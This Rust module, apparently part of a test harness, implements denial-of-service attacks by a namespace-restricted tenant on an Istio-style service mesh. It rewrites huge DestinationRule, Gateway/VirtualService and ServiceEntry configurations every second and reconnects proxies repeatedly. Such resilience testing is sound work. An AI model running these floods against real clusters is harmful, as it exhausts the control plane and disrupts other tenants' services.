//! Attacks of a tenant who may write one namespace only, and whose proxies connect.

use std::{fs, path::Path, time::Duration};

use super::{
    Target,
    port::{AdsStream, LISTENER, request},
};

/// The number of subsets of each rule, and the number of rules.
const SUBSETS: usize = 3900;
const RULES: usize = 21;
/// The numbers of servers and of TLS routes.
const SERVERS: usize = 256;
const ROUTES: usize = 256;
/// The numbers of addresses, ports and endpoints of a ServiceEntry.
const ADDRESSES: usize = 256;
const PORTS: usize = 256;
const ENDPOINTS: usize = 4096;

/// The file that the tenant writes.
const FILE: &str = "tenant.yaml";

/// Rules with thousands of subsets of services that all namespaces see. They change every second.
pub(super) async fn many_subsets(target: Target) {
    rewrite(&target.mesh, |round| {
        let rules = (0..RULES).map(|rule| {
            let subset = |subset| format!("{{name: s{subset}, labels: {{v: \"{round}\"}}}}");
            let subsets: Vec<String> = (0..SUBSETS).map(subset).collect();
            format!(
                "apiVersion: v1\nkind: Service\nmetadata: {{name: t{rule}, namespace: tenant}}\n\
                 spec: {{clusterIP: 10.97.0.{}, selector: {{app: t}}, ports: [{{name: http, port: 80}}]}}\n---\n\
                 apiVersion: networking.istio.io/v1\nkind: DestinationRule\n\
                 metadata: {{name: t{rule}, namespace: tenant}}\n\
                 spec: {{host: t{rule}, subsets: [{}]}}\n---\n",
                rule + 1,
                subsets.join(", ")
            )
        });
        rules.collect::<Vec<_>>().concat()
    })
    .await;
}

/// A Gateway with many servers, and a VirtualService whose routes apply to each of them. They change every second, and
/// gateways of the tenant connect again and again.
pub(super) async fn many_chains(target: Target) {
    let connects = async {
        loop {
            if let Ok(mut client) = target.attackers.client().await {
                let node = "router~10.0.0.8~edge.tenant~tenant.svc.cluster.local";
                let first = request(node, LISTENER, Vec::new());
                if let Ok(mut stream) = AdsStream::requesting(&mut client, first).await {
                    let _ = stream.response().await;
                }
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
    };
    let writes = rewrite(&target.mesh, |round| {
        let server = |server| {
            format!(
                "  - {{port: {{number: {}, name: tls-{server}, protocol: TLS}}, hosts: [\"*.example\"], \
                 tls: {{mode: PASSTHROUGH}}}}\n",
                20_000 + server
            )
        };
        let route = |route| {
            format!(
                "  - {{match: [{{sniHosts: [r{round}-{route}.example]}}], route: [{{destination: {{host: web}}}}]}}\n"
            )
        };
        let (servers, routes): (Vec<_>, Vec<_>) =
            ((0..SERVERS).map(server).collect(), (0..ROUTES).map(route).collect());
        format!(
            "apiVersion: networking.istio.io/v1\nkind: Gateway\nmetadata: {{name: edge, namespace: tenant}}\n\
             spec:\n  servers:\n{}---\n\
             apiVersion: networking.istio.io/v1\nkind: VirtualService\nmetadata: {{name: tls, namespace: tenant}}\n\
             spec:\n  hosts: [\"*.example\"]\n  gateways: [edge]\n  tls:\n{}",
            servers.concat(),
            routes.concat()
        )
    });
    tokio::join!(connects, writes);
}

/// A ServiceEntry whose endpoints count for each of its ports and addresses. Its host changes every second.
pub(super) async fn many_endpoints(target: Target) {
    rewrite(&target.mesh, |round| {
        let list = |count: usize, item: &dyn Fn(usize) -> String| (0..count).map(item).collect::<Vec<_>>().join(", ");
        let addresses = list(ADDRESSES, &|address| format!("10.98.0.{address}"));
        let ports = list(PORTS, &|port| {
            format!("{{number: {}, name: tcp-{port}, protocol: TCP}}", 20_000 + port)
        });
        let endpoints = list(ENDPOINTS, &|endpoint| {
            format!("{{address: 10.99.{}.{}}}", endpoint / 256, endpoint % 256)
        });
        format!(
            "apiVersion: networking.istio.io/v1\nkind: ServiceEntry\nmetadata: {{name: t, namespace: tenant}}\n\
             spec: {{hosts: [r{round}.example], resolution: STATIC, addresses: [{addresses}], ports: [{ports}], \
             endpoints: [{endpoints}]}}\n"
        )
    })
    .await;
}

/// Writes the objects of each round.
async fn rewrite(mesh: &Path, objects: impl Fn(usize) -> String) {
    for round in 0.. {
        let written = fs::write(mesh.join(FILE), objects(round));
        written.expect("target/ is writable");
        tokio::time::sleep(Duration::from_secs(1)).await;
    }
}
